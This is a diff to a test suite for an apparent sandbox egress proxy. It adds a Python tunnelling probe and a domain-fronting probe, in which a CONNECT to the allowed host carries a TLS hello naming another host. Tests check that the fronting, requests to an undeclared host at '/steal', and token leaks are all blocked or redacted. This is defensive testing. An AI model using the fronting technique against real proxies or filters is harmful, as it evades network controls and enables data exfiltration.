@@ -16,6 +16,7 @@ import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import {
   insideEgressWorld,
   runTestFileInWorld,
+  specResultLines,
   specTotals,
   WORLD,
   WORLD_CA,
@@ -68,6 +69,44 @@ async function main(args) {
   if (!response.ok) throw new Error('HTTP ' + response.status + ': ' + body);
   return { status: response.status, body };
 }
+`;
+
+// How `requests` tunnels: http.client to the proxy with set_tunnel (CONNECT), TLS inside.
+const PY_TUNNEL = `
+import http.client, os, ssl, urllib.parse
+def main(args):
+    url = urllib.parse.urlsplit(args["url"])
+    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
+    if url.scheme == "https":
+        conn = http.client.HTTPSConnection(proxy.hostname, proxy.port, timeout=10, context=ssl.create_default_context())
+    else:
+        conn = http.client.HTTPConnection(proxy.hostname, proxy.port, timeout=10)
+    conn.set_tunnel(url.hostname, url.port or (443 if url.scheme == "https" else 80))
+    conn.request("GET", url.path or "/", headers={"Authorization": "Bearer " + os.environ.get("TICKET_API_TOKEN", "")})
+    response = conn.getresponse()
+    body = response.read().decode()
+    if response.status >= 400:
+        raise RuntimeError("HTTP %d: %s" % (response.status, body))
+    return {"status": response.status, "body": body}
+`;
+
+// Domain fronting: CONNECT to the allowed host, then a TLS ClientHello naming another one.
+const FRONTING = `
+import os, socket, ssl, urllib.parse
+def main(args):
+    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
+    s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
+    target = args["connect"] + ":443"
+    s.sendall(("CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (target, target)).encode())
+    status = s.recv(4096).decode(errors="replace").split("\\r\\n")[0]
+    if " 200 " not in status:
+        return {"connect": status, "tls": "not tried"}
+    try:
+        t = ssl.create_default_context().wrap_socket(s, server_hostname=args["sni"])
+        t.sendall(("GET /fronted HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n" % args["sni"]).encode())
+        return {"connect": status, "tls": "ok", "response": t.recv(4096).decode(errors="replace")[:200]}
+    except (OSError, ssl.SSLError) as e:
+        return {"connect": status, "tls": type(e).__name__}
 `;
 
 // Connects without the proxy: a TCP socket and a UDP datagram straight to the API's address.
@@ -138,6 +177,8 @@ function probeManifests(): string {
       tools: [
         tool('py_fetch', 'python', PY_FETCH, { egress: insideNames, secretEnv: [TOKEN_SECRET] }),
         tool('node_fetch', 'node', NODE_FETCH, { egress: insideNames, secretEnv: [TOKEN_SECRET] }),
+        tool('py_tunnel', 'python', PY_TUNNEL, { egress: insideNames, secretEnv: [TOKEN_SECRET] }),
+        tool('fronting', 'python', FRONTING, { egress: [{ host: WORLD.apiHost }] }),
         tool('raw_sockets', 'python', RAW_SOCKETS, { egress: [{ host: WORLD.apiHost }] }),
         tool('no_egress_fetch', 'python', PY_FETCH),
         tool('leak_token', 'python', LEAK_TOKEN, { secretEnv: [TOKEN_SECRET] }),
@@ -164,8 +205,9 @@ function probeManifests(): string {
 }
 
 if (!world) {
-  test('the example and the egress attacks, in a world of their own, leave nothing behind', async () => {
+  test('the example and the egress attacks, in a world of their own, leave nothing behind', async (t) => {
     const run = await runTestFileInWorld(fileURLToPath(import.meta.url), { app: TICKETS_API });
+    for (const line of specResultLines(run.output)) t.diagnostic(line.trim());
     const totals = specTotals(run.output);
     assert.equal(run.code, 0, run.output);
     assert.ok(totals.pass > 0 && totals.pass === totals.tests, run.output);
@@ -278,7 +320,7 @@ if (!world) {
       encodeURIComponent(`token=${token}&x=1`),
     ];
     for (const form of forms) assert.ok(!text(result).includes(form), `${form} in ${text(result)}`);
-    assert.match(text(result), /I used .+ for that/);
+    assert.match(text(result), /I used \[REDACTED:TICKET_API_TOKEN\] for that/);
   });
 
   test('a tool that fails with the token in its message: the error is redacted too', async () => {
@@ -288,7 +330,7 @@ if (!world) {
     assert.ok(!text(result).includes(token), text(result));
   });
 
-  for (const fetcher of ['py_fetch', 'node_fetch']) {
+  for (const fetcher of ['py_fetch', 'node_fetch', 'py_tunnel']) {
     test(`${fetcher}: the allowed host works through the same proxy (control)`, async () => {
       const { result, events } = await call(probes, fetcher, {
         url: `https://${WORLD.apiHost}/api/v1/tickets/${KNOWN_TICKET.id}`,
@@ -300,9 +342,9 @@ if (!world) {
 
     // The proxy answers a refused CONNECT with 403 and a plain-HTTP request with 405: the
     // failure must be the proxy's refusal, not the absence of any network. For http://, urllib
-    // sends the request itself to the proxy (405); fetch opens a tunnel to port 80, which no
-    // rule declares (403).
-    const plainHttpRefusal = fetcher === 'py_fetch' ? /405/ : /\(403\)/;
+    // sends the request itself to the proxy (405); fetch and set_tunnel open a tunnel to port
+    // 80, which no rule declares (403).
+    const plainHttpRefusal = fetcher === 'py_fetch' ? /405/ : /403/;
     const refused: [what: string, url: string, status: RegExp][] = [
       ['a host the tool did not declare', `https://${WORLD.otherHost}/steal`, /403/],
       [
@@ -328,6 +370,22 @@ if (!world) {
       });
     }
   }
+
+  test('domain fronting: a tunnel to the allowed host carrying a TLS hello for another is cut', async () => {
+    const { result, events } = await call(probes, 'fronting', {
+      connect: WORLD.apiHost,
+      sni: WORLD.otherHost,
+    });
+    assert.equal(result.isError, false, text(result));
+    const outcome = result.structuredContent as { connect: string; tls: string };
+    assert.match(outcome.connect, / 200 /);
+    assert.notEqual(outcome.tls, 'ok', text(result));
+    // The proxy may have opened TCP to the pinned address; nothing was forwarded over it.
+    for (const e of events) {
+      assert.equal(e.kind, 'connection', JSON.stringify(events));
+      assert.equal(e.localAddress, WORLD.apiAddress);
+    }
+  });
 
   test('a TCP socket or a UDP datagram that bypasses the proxy gets nowhere', async () => {
     const { result, events } = await call(probes, 'raw_sockets', { address: WORLD.apiAddress });
